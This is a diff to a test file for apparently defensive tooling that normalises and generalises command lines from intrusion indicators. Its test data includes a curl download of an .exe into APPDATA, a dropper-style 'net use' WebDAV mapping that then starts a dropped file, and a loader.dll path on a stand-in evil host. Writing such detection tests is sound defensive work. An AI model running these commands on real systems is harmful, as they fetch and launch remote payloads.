@@ -5,6 +5,17 @@ describe('command-line values a rule can keep', () => {
     expect(asExecuted('curl hxxp://203.0.113[.]5/a -o %%APPDATA%%\\a.exe')).toBe('curl http://203.0.113.5/a -o %APPDATA%\\a.exe');
   });
 
+  it('reads a command quoted from a script string literal with its backslashes single, and leaves any other line', () => {
+    // A dropper's JavaScript string doubles every backslash; the net.exe it starts gets them single.
+    expect(asExecuted('cmd /c net use \\\\\\\\198.51.100[.]9@8888\\\\davwwwroot\\\\ && start %temp%\\\\q.pdf')).toBe(
+      'cmd /c net use \\\\198.51.100.9@8888\\davwwwroot\\ && start %temp%\\q.pdf',
+    );
+    // A share with a single separator, a line that mixes doubled and single backslashes, and a Unix escape stay as written.
+    expect(asExecuted('net use \\\\files01\\projects')).toBe('net use \\\\files01\\projects');
+    expect(asExecuted('copy C:\\\\Temp\\\\q.exe \\\\files01\\share')).toBe('copy C:\\\\Temp\\\\q.exe \\\\files01\\share');
+    expect(asExecuted("printf 'a\\\\nb' > /tmp/q")).toBe("printf 'a\\\\nb' > /tmp/q");
+  });
+
   it("cuts out the intrusion's hosts, placeholders, user folders, secrets and made-up file names", () => {
     expect(stableParts('http://203.0.113.5:8080/gate/panel.php')).toEqual(['http://', '/gate/panel.php']);
     expect(stableParts('\\\\files.evil.example@SSL\\DavWWWRoot\\loader.dll')).toEqual(['\\DavWWWRoot\\loader.dll']);
